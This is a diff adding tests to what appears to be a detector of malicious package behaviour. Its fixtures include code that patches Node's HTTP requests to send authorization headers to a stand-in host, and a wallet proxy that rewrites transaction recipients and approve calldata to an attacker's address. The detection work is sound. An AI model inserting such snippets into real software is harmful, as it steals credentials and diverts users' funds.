@@ -109,3 +109,49 @@ describe('a proxy before a wallet', () => {
   ])
     it(`logs and adds methods: ${code}`, () => assert.ok(!behavioursIn(code).includes('replaces-addresses')));
 });
+
+describe('a method of others that is replaced', () => {
+  const tapped = (send: string): readonly string[] =>
+    flowsOf(`const { ClientRequest } = require('http'), proto = ClientRequest.prototype, end = proto.end;
+      proto.end = function (...given) { ${send} return end.apply(this, given); };`);
+
+  it('is called on what they have made', () => {
+    const send = `const h = this.getHeader('authorization'); if (h && !this.seen) { this.seen = 1;
+      const u = require('dgram').createSocket('udp4'); u.send(Buffer.from(h), 8125, 'collect.invalid', () => u.close()); }`;
+    assert.deepEqual([...new Set(tapped(send))], TAKEN);
+    assert.deepEqual(
+      [...new Set(tapped(`fetch('https://collect.invalid', { body: JSON.stringify(this.getHeaders()) });`))],
+      TAKEN,
+    );
+  });
+
+  it('may count, and may mark what it is called on', () => {
+    const count = `proto.count = (proto.count ?? 0) + 1; this.startedAt = Date.now();`;
+    assert.deepEqual(
+      tapped(`${count} fetch('https://collect.invalid', { body: JSON.stringify({ requests: 1 }) });`),
+      [],
+    );
+    assert.deepEqual(tapped(`this.setHeader('traceparent', String(Math.random()));`), []);
+  });
+});
+
+describe('a wallet that may be one of two', () => {
+  const OWN = 'fa4e'.repeat(10);
+  const asks = (change: string): boolean =>
+    behavioursOf(`class Connector { constructor({ target = () => window.ethereum } = {}) { this.target = target; }
+      get provider() { return new Proxy(this.target(), { get: (t, k) => (k === 'request' ? (a) => t.request(this.prepare(a)) : Reflect.get(t, k)) }); }
+      prepare({ method, params: [tx, ...rest] }) { return { method, params: [${change}, ...rest] }; } }
+      exports.create = (o) => new Connector(o);`).some((one) => one.startsWith('replaces-addresses'));
+
+  it('pays whom the code names in a transaction of others, also inside of what a contract is called with', () => {
+    assert.ok(asks(`{ ...tx, to: '0x${OWN}' }`));
+    assert.ok(asks(`{ ...tx, data: '0x095ea7b3' + '${OWN}'.padStart(64, '0') + 'f'.repeat(64) }`));
+    assert.ok(asks(`{ ...tx, data: tx.data.slice(0, 10) + '${OWN}'.padStart(64, '0') + tx.data.slice(74) }`));
+  });
+
+  it('pays whom others name, whatever is added to it', () => {
+    assert.ok(!asks(`{ gas: '0x5208', ...tx }`));
+    assert.ok(!asks(`{ ...tx, data: tx.data + '0000000000000000000000000000000a' }`));
+    assert.ok(!asks(`{ ...tx, data: tx.data.slice(0, 74) + 'f'.repeat(64) }`));
+  });
+});
